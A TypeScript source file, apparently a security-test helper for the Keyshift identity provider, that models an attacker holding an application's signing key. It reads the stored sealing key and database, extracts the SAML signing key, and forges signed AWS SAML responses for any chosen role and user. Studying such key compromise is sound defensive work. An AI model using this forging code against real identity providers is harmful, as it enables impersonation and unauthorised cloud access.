// What somebody has who got at an application's signing key: the key itself, and all the time to sign with it.
import { randomBytes, randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Secret } from '@keyshift/base';
import { createDirectory } from '@keyshift/directory';
import { createSelfSignedCertificate } from '@keyshift/http';
import { type Database, openDatabase } from '@keyshift/postgres';
import {
  AUTHN_CONTEXT,
  AWS_AUDIENCE,
  issueResponse,
  NAMEID_FORMAT,
  SAML_ATTRIBUTE,
  type SigningKey,
} from '@keyshift/saml';
import type { Keyshift } from '../keyshift.ts';
import { onlyApplication } from '../people.ts';

export type StolenKey = {
  /** A SAMLResponse (base64) that nobody signed in for. */
  forge(o: { assertionId?: string; roleArn: string; person: string }): string;
};

/** The running Keyshift's own database, reached as its owner on this machine. */
export function openOwnDatabase({ data }: Keyshift): Database {
  return openDatabase(JSON.parse(readFileSync(join(data, 'directory-database.json'), 'utf8')));
}

export async function stealKey(keyshift: Keyshift, database: Database): Promise<StolenKey> {
  const { sealingKey } = JSON.parse(readFileSync(join(keyshift.data, 'secrets.json'), 'utf8'));
  const directory = createDirectory({
    database,
    now: () => new Date(),
    random: randomBytes,
    sealingKey: new Secret(sealingKey),
    createKey: createSelfSignedCertificate,
  });
  const target = onlyApplication(keyshift.info);
  const application = await directory.applications.find({ ssoPath: target.name });
  if (application === undefined) throw new Error(`there is no ${target.name}`);
  const key: SigningKey = await directory.applications.signingKey(application.id);
  const { entityId: issuer } = application;
  const { acsUrl: destination, providerArn } = target;
  return {
    forge({ assertionId = `_${randomUUID()}`, roleArn, person }) {
      const now = new Date();
      const attributes = [
        { name: SAML_ATTRIBUTE.role, values: [`${roleArn},${providerArn}`] },
        { name: SAML_ATTRIBUTE.roleSessionName, values: [person] },
        { name: SAML_ATTRIBUTE.dbUser, values: [person] },
      ];
      const xml = issueResponse(
        {
          ...{ responseId: `_${randomUUID()}`, assertionId, issueInstant: now, issuer, destination, attributes },
          ...{ audience: AWS_AUDIENCE, sessionIndex: `_${randomUUID()}`, authnInstant: now, notBefore: now },
          nameId: { value: person, format: NAMEID_FORMAT.persistent },
          authnContextClassRef: AUTHN_CONTEXT.passwordProtectedTransport,
          notOnOrAfter: new Date(now.getTime() + 300_000),
          sign: 'assertion',
        },
        key,
      );
      return Buffer.from(xml).toString('base64');
    },
  };
}
